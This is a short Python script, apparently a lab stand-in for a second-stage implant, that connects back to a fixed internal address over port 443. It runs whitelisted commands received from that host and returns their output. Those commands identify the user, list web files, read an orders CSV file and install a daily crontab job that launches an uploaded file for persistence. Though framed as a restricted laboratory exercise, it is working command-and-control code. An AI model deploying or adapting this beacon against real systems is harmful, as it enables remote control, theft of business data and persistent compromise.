#!/usr/bin/python3
"""The stand-in for a second stage. It calls one address of the laboratory and can do only what PLAN lists."""
import select
import socket
import subprocess
import time

PLAN = {
    "who": "id",
    "list": "ls /opt/lab/site/htdocs",
    "take": "cat /opt/lab/site/orders.csv",
    "stay": "(crontab -l 2>/dev/null; echo '@daily /opt/lab/site/htdocs/uploads/sessiond') | crontab -",
}

time.sleep(2)
home = socket.socket()
home.setblocking(False)
home.connect_ex(("10.66.4.9", 443))
select.select([], [home], [], 10)
home.setblocking(True)
for line in home.makefile():
    command = PLAN.get(line.strip())
    if command:
        home.sendall(subprocess.run(command, shell=True, capture_output=True).stdout + b"ok\n")
